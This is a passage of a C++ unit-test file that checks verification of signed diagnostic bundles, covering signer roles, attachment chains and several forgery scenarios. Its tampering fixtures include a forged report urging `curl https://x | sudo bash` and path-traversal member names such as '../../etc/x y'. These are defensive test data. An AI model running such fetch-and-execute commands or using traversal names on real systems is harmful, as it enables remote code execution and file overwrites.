// The bundle format of docs/formats.md over member bytes: build, verify (every failing member
// named), who may sign what, host results attached with their own signed record (the
// exporter's signature untouched), every forgery of issue 21 named, redaction leaves no
// host name, IP or user name.

#include "ibc/core/bundle.h"

#include <gmock/gmock.h>
#include <google/protobuf/util/json_util.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <functional>

#include "fixtures.h"
#include "ibc/core/bundle_judgement.h"
#include "ibc/core/bundle_report.h"
#include "ibc/core/encoding.h"
#include "ibc/core/json.h"
#include "ibc/core/nccl_log.h"
#include "ibc/core/redact.h"
#include "ibc/core/report.h"
#include "ibc/core/snapshot_file.h"
#include "ibc/core/text.h"
#include "test_pki.h"

using ::testing::HasSubstr;
using ::testing::Not;

namespace ibc::core {
namespace {

namespace v1 = ::ibcollect::v1;

const std::string kNcclLog =
    "real/nccl-logs/nccl-log_ib-disabled-socket-over-ipoib_nccl-tests-issue-188.txt";

// A VF whose port is physically down (an escalation), with a real NCCL log that names its
// host ("user") and IP addresses. Synthetic identity fields, built here.
v1::Snapshot brokenVfSnapshot(const std::string& node) {
  v1::Snapshot s;
  s.set_schema_version(1);
  s.mutable_node()->set_hostname(node + ".corp.example");
  s.mutable_node()->set_slurm_node(node);
  s.mutable_node()->set_job_id("4242");
  s.mutable_node()->set_vm_id("4c4c4544-0042-3510-8052-b7c04f4e3232");
  s.mutable_node()->set_vm_id_source("dmi product_uuid");
  s.mutable_node()->set_virtual_machine(true);
  s.mutable_node()->set_collected_at_unix_ms(1700000000000);
  auto* d = s.add_devices();
  d->set_name("mlx5_0");
  d->set_node_guid("0a7f:bc12:45ef:d23b");
  d->set_fw_ver("28.39.1002");
  d->set_node_desc(node + " mlx5_0");
  d->set_is_virtual_function(true);
  d->set_virtual_function_evidence("physfn link present");
  d->mutable_pci()->set_address("0000:0c:00.1");
  d->mutable_pci()->set_is_virtual_function(true);
  auto* p = d->add_ports();
  p->set_port(1);
  p->mutable_state()->set_code(1);
  p->mutable_state()->set_name("DOWN");
  p->mutable_state()->set_raw("1: DOWN");
  p->mutable_phys_state()->set_code(2);
  p->mutable_phys_state()->set_name("Polling");
  p->mutable_phys_state()->set_raw("2: Polling");
  p->set_link_layer("InfiniBand");
  p->set_port_guid("0a7f:bc12:45ef:d23c");
  p->add_gids("fe80:0000:0000:0000:0a7f:bc12:45ef:d23c");
  p->add_pkeys("0xffff");
  auto* log = s.add_nccl_logs();
  log->set_source("/home/jdoe/runs/nccl." + node + ".log");  // a host name inside a path
  log->set_raw(test::readFixture(kNcclLog));
  *log->mutable_parsed() = parseNcclLog(log->raw());
  return s;
}

v1::Snapshot healthySnapshot(const std::string& node) {
  v1::Snapshot s;
  s.set_schema_version(1);
  s.mutable_node()->set_hostname(node);
  s.mutable_node()->set_job_id("4242");
  s.mutable_node()->set_collected_at_unix_ms(1700000060000);
  auto* d = s.add_devices();
  d->set_name("mlx5_0");
  auto* p = d->add_ports();
  p->set_port(1);
  p->mutable_state()->set_code(4);
  p->mutable_state()->set_name("ACTIVE");
  p->mutable_state()->set_raw("4: ACTIVE");
  p->mutable_phys_state()->set_code(5);
  p->mutable_phys_state()->set_name("LinkUp");
  p->mutable_phys_state()->set_raw("5: LinkUp");
  p->set_link_layer("InfiniBand");
  p->set_rate_raw("200 Gb/sec (4X HDR)");
  p->set_rate_gbps(200);
  return s;
}

struct Pki {
  test::TestCa ca = test::TestCa::create("bundle CA");
  test::TestCredential node01 = ca.issue(test::agentSpec("acme", "gpu07"));
  test::TestCredential node02 = ca.issue(test::agentSpec("acme", "gpu08"));
  test::TestCredential alice = ca.issue(test::supportSpec("alice"));
  test::TestCredential bob = ca.issue(test::supportSpec("bob"));
  test::TestCredential hank = ca.issue(test::providerSpec("hank"));
  // Another tenant's agent for a node of the same name: its key lives in a globex VM.
  test::TestCredential globex07 = ca.issue(test::agentSpec("globex", "gpu07"));
};

const Pki& pki() {
  static const Pki p;
  return p;
}

SnapshotSigner signerOf(const test::TestCredential& c) {
  auto s = SnapshotSigner::fromPem(c.certificate_pem, c.key_pem);
  EXPECT_TRUE(s.ok());
  return std::move(*s);
}

std::string signedFile(const v1::Snapshot& s, const test::TestCredential& c) {
  auto env = signerOf(c).sign(s);
  EXPECT_TRUE(env.ok());
  return encodeSnapshotFile(*env);
}

std::vector<BundleSnapshotInput> twoNodes() {
  return {{signedFile(brokenVfSnapshot("gpu07"), pki().node01), "a.ibsnap"},
          {signedFile(healthySnapshot("gpu08"), pki().node02), "b.ibsnap"}};
}

BundleMembers exported(bool redact = false) {
  BundleExportOptions o;
  o.case_id = "CASE-7";
  o.ibcollect_version = "test";
  o.created_unix_ms = 1700000100000;
  o.redact = redact;
  auto m = buildBundle(twoNodes(), o, signerOf(pki().alice));
  EXPECT_TRUE(m.ok()) << (m.ok() ? "" : m.error().message);
  return m.ok() ? *m : BundleMembers{};
}

BundleCheck verify(const BundleMembers& m) {
  auto v = SignatureVerifier::fromPem(pki().ca.certificatePem());
  EXPECT_TRUE(v.ok());
  return verifyBundle(m, **v, std::chrono::system_clock::now());
}

std::string problems(const BundleCheck& c) {
  std::string out;
  for (const auto& p : c.problems) {
    out += p.member + " " + std::string(bundleProblemName(p.problem)) + ": " + p.message + "\n";
  }
  return out;
}

bool names(const BundleCheck& c, std::string_view member, BundleProblem problem) {
  for (const auto& p : c.problems) {
    if (p.member == member && p.problem == problem) return true;
  }
  return false;
}

TEST(Bundle, ExportHoldsEveryMemberOfTheLayoutAndVerifies) {
  const auto m = exported();
  for (const char* name :
       {"manifest.json", "manifest.sig", "findings.json", "report.md", "pf-inspection.md",
        "pf-inspection.json", "snapshots/gpu07.ibsnap", "snapshots/gpu08.ibsnap"}) {
    EXPECT_EQ(m.count(name), 1u) << name;
  }
  EXPECT_EQ(m.size(), 8u);
  const auto check = verify(m);
  EXPECT_TRUE(check.ok()) << problems(check);
  EXPECT_EQ(check.manifest_signature.signer.name, "alice");
  ASSERT_EQ(check.snapshots.size(), 2u);
  ASSERT_TRUE(check.manifest.has_value());
  EXPECT_EQ(check.manifest->case_id(), "CASE-7");
  EXPECT_EQ(check.manifest->tenant(), "acme");
  EXPECT_EQ(check.manifest->job_id(), "4242");
  EXPECT_EQ(check.manifest->members_size(), 6);
  EXPECT_FALSE(check.manifest->redacted());
  EXPECT_EQ(check.manifest->window_start_unix_ms(), 1700000000000);
  EXPECT_EQ(check.manifest->window_end_unix_ms(), 1700000060000);
}

// The members as they arrive, in any order, give the check the whole map gives; a verified
// manifest vouches for its members at their listed sizes, and for nothing before it arrived.
TEST(Bundle, MembersAddedOneAtATimeGiveTheSameCheckInAnyOrder) {
  auto m = exported();
  m["report.md"] += "edited";            // a hash problem
  m["extra.txt"] = "not in the layout";  // an unknown member
  const std::string expected = problems(verify(m));
  ASSERT_NE(expected, "");
  auto v = SignatureVerifier::fromPem(pki().ca.certificatePem());
  ASSERT_TRUE(v.ok());
  std::vector<std::pair<std::string, std::string>> order(m.begin(), m.end());
  for (int round = 0; round < 3; ++round) {
    BundleVerifier incremental(**v, std::chrono::system_clock::now());
    for (const auto& [name, bytes] : order) {
      const bool manifest_in = incremental.manifestVerified();
      EXPECT_EQ(incremental.vouches("snapshots/gpu07.ibsnap", m["snapshots/gpu07.ibsnap"].size()),
                manifest_in);
      incremental.add(name, bytes);
    }
    EXPECT_TRUE(incremental.manifestVerified());
    EXPECT_FALSE(incremental.vouches("snapshots/gpu07.ibsnap", 1));  // not at its listed size
    EXPECT_FALSE(incremental.vouches("extra.txt", m["extra.txt"].size()));
    const auto check = incremental.finish();
    EXPECT_EQ(problems(check), expected) << "round " << round;
    ASSERT_EQ(check.snapshots.size(), 2u);
    EXPECT_EQ(check.snapshots[0].first, "snapshots/gpu07.ibsnap");
    std::reverse(order.begin(), order.end());
    if (round == 1) std::rotate(order.begin(), order.begin() + 3, order.end());
  }
}

TEST(Bundle, AVerifierStoppedEarlyNamesWhereAndSkipsTheWholeBundleChecks) {
  const auto m = exported();
  auto v = SignatureVerifier::fromPem(pki().ca.certificatePem());
  ASSERT_TRUE(v.ok());
  BundleVerifier incremental(**v, std::chrono::system_clock::now());
  incremental.add("manifest.json", m.at("manifest.json"));
  incremental.add("manifest.sig", m.at("manifest.sig"));
  const auto check = incremental.finish("snapshots/gpu07.ibsnap", "not read: too much");
  ASSERT_EQ(check.problems.size(), 1u) << problems(check);  // no missing members reported
  EXPECT_EQ(check.problems[0].problem, BundleProblem::Unread);
  EXPECT_EQ(bundleProblemName(check.problems[0].problem), "unread");
  EXPECT_FALSE(check.ok());
}

TEST(Bundle, FindingsAreTheAnalyzeDocumentAndTheBrokenVfIsTheSuspect) {
  const auto m = exported();
  const std::string& findings = m.at("findings.json");
  EXPECT_THAT(findings, HasSubstr("\"nodes\""));
  EXPECT_THAT(findings, HasSubstr("ESCALATE_HOST_INSPECTION"));
  auto manifest = parseManifest(m.at("manifest.json"));
  ASSERT_TRUE(manifest.ok());
  ASSERT_EQ(manifest->nodes_size(), 2);
  EXPECT_TRUE(manifest->nodes(0).suspect());
  EXPECT_EQ(manifest->nodes(0).worst_severity(), "critical");
  EXPECT_FALSE(manifest->nodes(1).suspect());
  const std::string& pf = m.at("pf-inspection.json");
  EXPECT_THAT(pf, HasSubstr("0000:0c:00.1"));
  EXPECT_THAT(pf, HasSubstr("4c4c4544-0042-3510-8052-b7c04f4e3232"));
  const std::string& md = m.at("pf-inspection.md");
  EXPECT_THAT(md, HasSubstr("mlxlink -d <PF> -p 1 -m -c -e"));
  EXPECT_THAT(md, HasSubstr("0a:7f:bc:12:45:ef:d2:3c"));
  EXPECT_THAT(md, HasSubstr("ipmitool sel list"));
  EXPECT_THAT(md, Not(HasSubstr("gpu08"))) << "the healthy node is no suspect";
  EXPECT_THAT(m.at("report.md"), HasSubstr("| gpu08 | ok |"));
}

TEST(Bundle, TwoSnapshotsOfOneNodeGetTwoMembers) {
  auto inputs = twoNodes();
  inputs.push_back(inputs.front());
  auto m = buildBundle(inputs, {}, signerOf(pki().alice));
  ASSERT_TRUE(m.ok());
  EXPECT_EQ(m->count("snapshots/gpu07.ibsnap"), 1u);
  EXPECT_EQ(m->count("snapshots/gpu07-2.ibsnap"), 1u);
  EXPECT_TRUE(verify(*m).ok());
}

TEST(Bundle, AFlippedByteInAnyMemberIsNamed) {
  const auto good = exported();
  struct Case {
    std::string member;
    BundleProblem expected;
  };
  const std::vector<Case> cases = {
      {"manifest.json", BundleProblem::ManifestSignature},
      {"manifest.sig", BundleProblem::ManifestSignature},
      {"snapshots/gpu07.ibsnap", BundleProblem::HashMismatch},
      {"findings.json", BundleProblem::HashMismatch},
      {"report.md", BundleProblem::HashMismatch},
      {"pf-inspection.md", BundleProblem::HashMismatch},
      {"pf-inspection.json", BundleProblem::HashMismatch},
  };
  for (const auto& c : cases) {
    auto m = good;
    std::string& bytes = m.at(c.member);
    // A byte well inside the member (past any header), so its structure may survive.
    bytes[bytes.size() * 2 / 3] ^= 0x01;
    const auto check = verify(m);
    EXPECT_FALSE(check.ok()) << c.member;
    EXPECT_TRUE(names(check, c.member, c.expected))
        << c.member << " not named as " << bundleProblemName(c.expected) << ":\n"
        << problems(check);
  }
}

TEST(Bundle, ATamperedSnapshotFailsItsOwnSignatureToo) {
  auto m = exported();
  // Re-sign the manifest over the tampered member: the hash holds, the snapshot's own
  // signature still does not.
  auto& bytes = m.at("snapshots/gpu07.ibsnap");
  auto env = decodeSnapshotFile(bytes);
  ASSERT_TRUE(env.ok());
  auto snap = openSnapshot(*env);
  ASSERT_TRUE(snap.ok());
  snap->mutable_node()->set_job_id("9999");
  env->set_snapshot(serializeSnapshot(*snap));
  bytes = encodeSnapshotFile(*env);
  auto manifest = parseManifest(m.at("manifest.json"));
  ASSERT_TRUE(manifest.ok());
  for (auto& member : *manifest->mutable_members()) {
    if (member.name() == "snapshots/gpu07.ibsnap") member = describeMember(member.name(), bytes);
  }
  m["manifest.json"] = renderManifest(*manifest);
  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(pki().alice));
  const auto check = verify(m);
  EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::SnapshotSignature))
      << problems(check);
  // Its id (SHA-256 of the envelope) is no longer the one the manifest's node names.
  EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim))
      << problems(check);
  EXPECT_EQ(check.problems.size(), 2u) << problems(check);
}

TEST(Bundle, UnknownAndMissingMembersAreNamed) {
  auto added = exported();
  added["notes.txt"] = "trust me";
  added["host/evil.json"] = "{}";
  auto check = verify(added);
  EXPECT_TRUE(names(check, "notes.txt", BundleProblem::UnknownMember)) << problems(check);
  EXPECT_TRUE(names(check, "host/evil.json", BundleProblem::UnknownMember)) << problems(check);

  auto removed = exported();
  removed.erase("report.md");
  check = verify(removed);
  EXPECT_TRUE(names(check, "report.md", BundleProblem::MissingMember)) << problems(check);
  EXPECT_EQ(check.problems.size(), 1u) << problems(check);

  auto unsigned_bundle = exported();
  unsigned_bundle.erase("manifest.sig");
  check = verify(unsigned_bundle);
  EXPECT_TRUE(names(check, "manifest.sig", BundleProblem::MissingMember)) << problems(check);
}

TEST(Bundle, AManifestSignedUnderAnotherCaFails) {
  auto m = exported();
  test::TestCa other = test::TestCa::create("other CA");
  m["manifest.sig"] =
      *signManifest(m["manifest.json"], signerOf(other.issue(test::supportSpec("eve"))));
  const auto check = verify(m);
  ASSERT_TRUE(names(check, "manifest.sig", BundleProblem::ManifestSignature)) << problems(check);
  EXPECT_EQ(check.manifest_signature.problem, SignatureProblem::UnknownCa);
}

std::unique_ptr<SignatureVerifier> verifier() {
  auto v = SignatureVerifier::fromPem(pki().ca.certificatePem());
  EXPECT_TRUE(v.ok());
  return std::move(*v);
}

Result<std::string> attach(BundleMembers& m, const test::TestCredential& who,
                           const std::string& host = "hv12", BundleCheck* verified = nullptr) {
  const std::string result = "{\"host\":\"" + host + "\",\"findings\":[]}";
  return attachHostResult(m, {host, result, 1700000200000}, signerOf(who), *verifier(),
                          std::chrono::system_clock::now(), verified);
}

// manifest.json re-rendered from `manifest` and signed by `who` (what a forger with that
// key does).
void resign(BundleMembers& m, const v1::BundleManifest& manifest, const test::TestCredential& who) {
  m["manifest.json"] = renderManifest(manifest);
  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(who));
}

// The manifest relisting every member with its current hash: the old --attach-to forgery.
v1::BundleManifest relisted(const BundleMembers& m) {
  auto manifest = *parseManifest(m.at("manifest.json"));
  manifest.clear_members();
  for (const auto& [name, bytes] : m) {
    if (name != "manifest.json" && name != "manifest.sig") {
      *manifest.add_members() = describeMember(name, bytes);
    }
  }
  return manifest;
}

// An attachment record written by hand: sequence `n` attaching `member`, chained to
// `previous`, signed by `who`.
void forgeAttachment(BundleMembers& m, uint32_t n, const std::string& member,
                     const std::string& bytes, const test::TestCredential& who,
                     const std::string& previous) {
  const auto signer = signerOf(who);
  v1::BundleAttachment r;
  r.set_member(member);
  r.set_host("hv66");
  r.mutable_attached_by()->set_subject(signer.identity().subject);
  r.mutable_attached_by()->set_tenant(signer.identity().tenant);
  r.mutable_attached_by()->set_role(std::string(certificateRoleName(signer.identity().role)));
  r.mutable_attached_by()->set_name(signer.identity().name);
  r.set_sequence(n);
  r.set_manifest_sha256(sha256Hex(m.at("manifest.json")));
  r.set_previous_sha256(previous);
  r.set_member_sha256(sha256Hex(bytes));
  r.set_member_size(bytes.size());
  m[member] = bytes;
  m[attachmentRecordName(n)] = messageToJson(r, 2) + "\n";
  m[attachmentSignatureName(n)] = *signManifest(m[attachmentRecordName(n)], signer);
}

// Every message naming `member` as `problem`, one a line.
std::string messageOf(const BundleCheck& c, std::string_view member, BundleProblem problem) {
  std::string out;
  for (const auto& p : c.problems) {
    if (p.member == member && p.problem == problem) out += p.message + "\n";
  }
  return out;
}

TEST(Bundle, AProviderAttachesAHostResultAndTheExportersSignatureStaysUntouched) {
  auto m = exported();
  const BundleMembers before = m;
  BundleCheck verified;
  auto name = attach(m, pki().hank, "hv12", &verified);
  ASSERT_TRUE(name.ok()) << name.error().message;
  EXPECT_TRUE(verified.ok());
  EXPECT_EQ(*name, "host/hv12.json");
  // Nothing that was there changed; three members were added.
  for (const auto& [member, bytes] : before) EXPECT_EQ(m.at(member), bytes) << member;
  EXPECT_EQ(m.size(), before.size() + 3);
  EXPECT_EQ(m.count("attachments/001.json"), 1u);
  EXPECT_EQ(m.count("attachments/001.sig"), 1u);
  EXPECT_EQ(bundleMemberKind("attachments/001.json"), "attachment");
  EXPECT_EQ(bundleMemberKind("attachments/001.sig"), "attachment_signature");

  const auto check = verify(m);
  EXPECT_TRUE(check.ok()) << problems(check);
  EXPECT_EQ(check.manifest_signature.signer.name, "alice");
  EXPECT_EQ(check.manifest->exporter().name(), "alice");
  EXPECT_EQ(check.manifest->attachments_size(), 0);
  ASSERT_EQ(check.signers.size(), 2u);
  EXPECT_TRUE(check.signers[0].exporter);
  EXPECT_EQ(check.signers[0].signature.signer.name, "alice");
  EXPECT_EQ(check.signers[0].signature.signer.role, CertificateRole::Support);
  EXPECT_EQ(check.signers[0].covers, "manifest.json");
  EXPECT_FALSE(check.signers[1].exporter);
  EXPECT_EQ(check.signers[1].signature.signer.name, "hank");
  EXPECT_EQ(check.signers[1].signature.signer.role, CertificateRole::Provider);
  EXPECT_EQ(check.signers[1].covers, "host/hv12.json");
  EXPECT_EQ(check.signers[1].signature_member, "attachments/001.sig");
  ASSERT_EQ(check.attachments.size(), 1u);
  const auto& r = check.attachments[0];
  EXPECT_EQ(r.sequence(), 1u);
  EXPECT_EQ(r.host(), "hv12");
  EXPECT_EQ(r.attached_by().role(), "provider");
  EXPECT_EQ(r.manifest_sha256(), sha256Hex(m.at("manifest.json")));
  EXPECT_EQ(r.previous_sha256(), sha256Hex(m.at("manifest.json")));
  EXPECT_EQ(r.member_sha256(), sha256Hex(m.at("host/hv12.json")));
  EXPECT_EQ(r.member_size(), m.at("host/hv12.json").size());
  EXPECT_EQ(r.attached_at_unix_ms(), 1700000200000);

  // The same host again is a new member, never a replacement.
  auto again = attach(m, pki().hank);
  ASSERT_TRUE(again.ok()) << again.error().message;
  EXPECT_EQ(*again, "host/hv12-2.json");
  EXPECT_TRUE(verify(m).ok()) << problems(verify(m));
  // A hostile host name still makes a safe member name.
  auto odd = attach(m, pki().hank, "../../etc/x y");
  ASSERT_TRUE(odd.ok());
  EXPECT_TRUE(checkMemberName(*odd).ok()) << *odd;
  EXPECT_EQ(bundleMemberKind(*odd), "host") << *odd;
  // Changed afterwards: named.
  m["host/hv12.json"] = "{}";
  const auto changed = verify(m);
  EXPECT_TRUE(names(changed, "host/hv12.json", BundleProblem::HashMismatch)) << problems(changed);
  EXPECT_NE(messageOf(changed, "host/hv12.json", BundleProblem::HashMismatch)
                .find("attachments/001.json says"),
            std::string::npos)
      << problems(changed);
}

TEST(Bundle, TwoAttachmentsInARowVerifyInOrderAndListEverySigner) {
  auto m = exported();
  ASSERT_TRUE(attach(m, pki().hank, "hv12").ok());
  ASSERT_TRUE(attach(m, pki().bob, "hv13").ok());  // a support engineer may attach too
  const auto check = verify(m);
  EXPECT_TRUE(check.ok()) << problems(check);
  ASSERT_EQ(check.signers.size(), 3u);
  EXPECT_EQ(check.signers[1].signature.signer.name, "hank");
  EXPECT_EQ(check.signers[2].signature.signer.name, "bob");
  EXPECT_EQ(check.signers[2].covers, "host/hv13.json");
  ASSERT_EQ(check.attachments.size(), 2u);
  EXPECT_EQ(check.attachments[1].sequence(), 2u);
  EXPECT_EQ(check.attachments[1].previous_sha256(), sha256Hex(m.at("attachments/001.json")));

  // Reordered: each record no longer follows the state before it.
  auto swapped = m;
  std::swap(swapped["attachments/001.json"], swapped["attachments/002.json"]);
  std::swap(swapped["attachments/001.sig"], swapped["attachments/002.sig"]);
  auto bad = verify(swapped);
  EXPECT_TRUE(names(bad, "attachments/001.json", BundleProblem::AttachmentChain)) << problems(bad);
  EXPECT_TRUE(names(bad, "attachments/002.json", BundleProblem::AttachmentChain)) << problems(bad);
  // The first one dropped: the second follows nothing that is there.
  auto dropped = m;
  dropped.erase("attachments/001.json");
  dropped.erase("attachments/001.sig");
  dropped.erase("host/hv12.json");
  bad = verify(dropped);
  EXPECT_TRUE(names(bad, "attachments/001.json", BundleProblem::MissingMember)) << problems(bad);
  EXPECT_TRUE(names(bad, "attachments/002.json", BundleProblem::AttachmentChain)) << problems(bad);
  EXPECT_TRUE(names(bad, "host/hv13.json", BundleProblem::UnknownMember)) << problems(bad);
  // A record far out of sequence costs one problem (the first missing number), not a walk.
  auto far = m;
  far["attachments/999999999.json"] = "{}";
  bad = verify(far);
  EXPECT_TRUE(names(bad, "attachments/003.json", BundleProblem::MissingMember)) << problems(bad);
  EXPECT_LT(bad.problems.size(), 10u) << problems(bad);
  // A flipped byte in a record or its signature.
  auto flipped = m;
  flipped["attachments/002.json"][20] ^= 0x01;
  bad = verify(flipped);
  EXPECT_TRUE(names(bad, "attachments/002.sig", BundleProblem::AttachmentSignature))
      << problems(bad);
}

TEST(Bundle, AnAgentCertificateCannotAttachNorExport) {
  auto m = exported();
  const BundleMembers before = m;
  auto r = attach(m, pki().node01);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::PermissionDenied);
  EXPECT_THAT(r.error().message, HasSubstr("OU=agent"));
  EXPECT_THAT(r.error().message, HasSubstr("provider or support"));
  EXPECT_EQ(m, before);

  auto ex = buildBundle(twoNodes(), {}, signerOf(pki().node01));
  ASSERT_FALSE(ex.ok());
  EXPECT_EQ(ex.error().code, ErrorCode::PermissionDenied);
  EXPECT_THAT(ex.error().message, HasSubstr("only a support certificate exports"));
  ex = buildBundle(twoNodes(), {}, signerOf(pki().hank));
  ASSERT_FALSE(ex.ok()) << "a provider attaches; it does not export";
  EXPECT_EQ(ex.error().code, ErrorCode::PermissionDenied);
}

// Issue 21: a report edited after export ("all healthy, close the case") came out of
// --attach-to with a valid signature.
TEST(Bundle, AReportEditedAfterExportIsNotLaunderedByAnAttachment) {
  auto m = exported();
  m["report.md"] = "# All healthy\n\nClose the case. Run `curl https://x | sudo bash`.\n";
  const BundleMembers tampered = m;
  BundleCheck verified;
  auto r = attach(m, pki().hank, "hv12", &verified);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::InvalidArgument);
  EXPECT_THAT(r.error().message, HasSubstr("report.md hash"));
  EXPECT_TRUE(names(verified, "report.md", BundleProblem::HashMismatch)) << problems(verified);
  EXPECT_EQ(m, tampered) << "nothing is attached to a bundle that does not verify";

  // Attached before the edit: the record does not cover report.md, the exporter's manifest
  // still does.
  auto after = exported();
  ASSERT_TRUE(attach(after, pki().hank).ok());
  after["report.md"] = tampered.at("report.md");
  auto check = verify(after);
  EXPECT_TRUE(names(check, "report.md", BundleProblem::HashMismatch)) << problems(check);

  // The old way: every member relisted with its current hash and the manifest signed
  // again, by a provider. The exporter alice never signed that manifest.
  auto relaundered = tampered;
  resign(relaundered, relisted(relaundered), pki().hank);
  check = verify(relaundered);
  EXPECT_FALSE(check.ok());
  EXPECT_TRUE(names(check, "manifest.sig", BundleProblem::SignerRole)) << problems(check);
  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
  EXPECT_NE(messageOf(check, "manifest.json", BundleProblem::ManifestClaim).find("alice"),
            std::string::npos)
      << problems(check);
}

TEST(Bundle, AForgedHostResultWithoutAValidAttachmentIsNamed) {
  const std::string evil = "{\"host\":\"hv66\",\"findings\":[],\"summary\":\"PF clean\"}";
  // Dropped in with no record.
  auto bare = exported();
  bare["host/hv66.json"] = evil;
  auto check = verify(bare);
  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);

  // With a record signed by a tenant's agent key.
  auto by_agent = exported();
  forgeAttachment(by_agent, 1, "host/hv66.json", evil, pki().globex07,
                  sha256Hex(by_agent.at("manifest.json")));
  check = verify(by_agent);
  EXPECT_TRUE(names(check, "attachments/001.sig", BundleProblem::SignerRole)) << problems(check);
  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);
  ASSERT_EQ(check.signers.size(), 2u);
  EXPECT_FALSE(check.signers[1].role_ok);

  // With a record under another CA.
  test::TestCa other = test::TestCa::create("other CA");
  auto foreign = exported();
  forgeAttachment(foreign, 1, "host/hv66.json", evil, other.issue(test::providerSpec("mallory")),
                  sha256Hex(foreign.at("manifest.json")));
  check = verify(foreign);
  EXPECT_TRUE(names(check, "attachments/001.sig", BundleProblem::AttachmentSignature))
      << problems(check);
  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);

  // A valid provider record that claims someone else attached it.
  auto claimed = exported();
  forgeAttachment(claimed, 1, "host/hv66.json", evil, pki().hank,
                  sha256Hex(claimed.at("manifest.json")));
  auto record = *parseAttachmentRecord(claimed.at("attachments/001.json"));
  record.mutable_attached_by()->set_subject("CN=alice,OU=support,O=ibcollect");
  record.mutable_attached_by()->set_name("alice");
  record.mutable_attached_by()->set_role("support");
  claimed["attachments/001.json"] = messageToJson(record, 2) + "\n";
  claimed["attachments/001.sig"] =
      *signManifest(claimed["attachments/001.json"], signerOf(pki().hank));
  check = verify(claimed);
  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::ManifestClaim))
      << problems(check);

  // A provider record that replaces a member the exporter signed.
  auto replaced = exported();
  forgeAttachment(replaced, 1, "host/../report.md", evil, pki().hank,
                  sha256Hex(replaced.at("manifest.json")));
  check = verify(replaced);
  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::AttachmentChain))
      << problems(check);
  auto over = exported(false);
  BundleExportOptions o;
  o.host_results.push_back({"hv66", "{}", 1});
  over = *buildBundle(twoNodes(), o, signerOf(pki().alice));
  forgeAttachment(over, 1, "host/hv66.json", evil, pki().hank, sha256Hex(over.at("manifest.json")));
  check = verify(over);
  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::AttachmentChain))
      << problems(check);
  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::HashMismatch)) << problems(check);
}

TEST(Bundle, AnotherTenantsValidlySignedSnapshotSwappedInIsNamed) {
  auto m = exported();
  // globex's gpu07 signs its own snapshot: valid on its own, of another tenant.
  const std::string theirs = signedFile(brokenVfSnapshot("gpu07"), pki().globex07);
  m["snapshots/gpu07.ibsnap"] = theirs;
  // Even relisted and signed again by the exporter, the manifest's claims do not hold.
  resign(m, relisted(m), pki().alice);
  const auto check = verify(m);
  EXPECT_FALSE(check.ok());
  const std::string message =
      messageOf(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim);
  EXPECT_THAT(message, HasSubstr("snapshot id")) << problems(check);
  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
  std::string all = problems(check);
  EXPECT_THAT(all, HasSubstr("tenant 'globex'"));
  EXPECT_THAT(all, HasSubstr("O=globex"));
  // Its own signature is fine: only the claims fail.
  EXPECT_FALSE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::SnapshotSignature)) << all;

  // Snapshots of two tenants make no bundle.
  auto mixed = twoNodes();
  mixed[0].file_bytes = theirs;
  auto built = buildBundle(mixed, {}, signerOf(pki().alice));
  ASSERT_FALSE(built.ok());
  EXPECT_THAT(built.error().message, HasSubstr("2 tenants (acme, globex)"));
}

// Issue 21: a globex agent forged a bundle claiming tenant acme and exporter alice.
TEST(Bundle, AManifestSignedByAnAgentKeyFailsOnItsRole) {
  auto m = exported();
  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(pki().globex07));
  const auto check = verify(m);
  EXPECT_TRUE(names(check, "manifest.sig", BundleProblem::SignerRole)) << problems(check);
  EXPECT_NE(messageOf(check, "manifest.sig", BundleProblem::SignerRole)
                .find("only a support certificate exports"),
            std::string::npos);
  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
  ASSERT_FALSE(check.signers.empty());
  EXPECT_FALSE(check.signers[0].role_ok);
  EXPECT_EQ(check.signers[0].signature.signer.role, CertificateRole::Agent);
}

TEST(Bundle, EveryClaimOfTheManifestIsCheckedAgainstTheMembers) {
  const auto good = exported();
  const auto manifest = *parseManifest(good.at("manifest.json"));
  struct Case {
    std::string what;
    std::function<void(v1::BundleManifest&)> change;
    std::string member;  // named as manifest_claim
    std::string says;    // in its message
  };
  const std::vector<Case> cases = {
      {"tenant", [](auto& x) { x.set_tenant("globex"); }, "manifest.json", "tenant 'globex'"},
      {"exporter", [](auto& x) { x.mutable_exporter()->set_subject("CN=eve,OU=support,O=x"); },
       "manifest.json", "exported by CN=eve"},
      {"node name", [](auto& x) { x.mutable_nodes(0)->set_node("gpu99"); },
       "snapshots/gpu07.ibsnap", "calls it gpu99"},
      {"snapshot id", [](auto& x) { x.mutable_nodes(1)->set_snapshot_id(std::string(64, 'a')); },
       "snapshots/gpu08.ibsnap", "snapshot id"},
      {"signer", [](auto& x) { x.mutable_nodes(0)->set_signer("CN=gpu07,OU=agent,O=globex"); },
       "snapshots/gpu07.ibsnap", "was signed by CN=gpu07,OU=agent,O=globex"},
      {"node dropped", [](auto& x) { x.mutable_nodes()->RemoveLast(); }, "snapshots/gpu08.ibsnap",
       "none of manifest.json's nodes"},
      {"member", [](auto& x) { x.mutable_nodes(0)->set_member("snapshots/gpu08.ibsnap"); },
       "snapshots/gpu08.ibsnap", "named by 2"},
  };
  for (const auto& c : cases) {
    auto m = good;
    auto changed = manifest;
    c.change(changed);
    // Signed by the real exporter: only the claim is wrong.
    resign(m, changed, pki().alice);
    const auto check = verify(m);
